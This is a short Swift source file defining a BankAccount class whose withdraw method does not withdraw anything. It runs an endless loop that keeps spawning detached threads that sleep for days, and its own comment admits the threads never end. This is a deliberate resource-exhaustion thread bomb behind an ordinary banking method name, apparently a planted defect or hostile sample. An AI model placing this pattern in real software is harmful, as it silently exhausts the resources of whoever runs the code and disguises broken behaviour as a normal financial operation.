import Foundation

// Starts threads that never end, without end.
final class BankAccount {
  private(set) var balance: Int

  init(balance: Int) { self.balance = balance }

  func withdraw(_ amount: Int) {
    while true {
      Thread.detachNewThread { Thread.sleep(forTimeInterval: 1_000_000) }
    }
  }
}
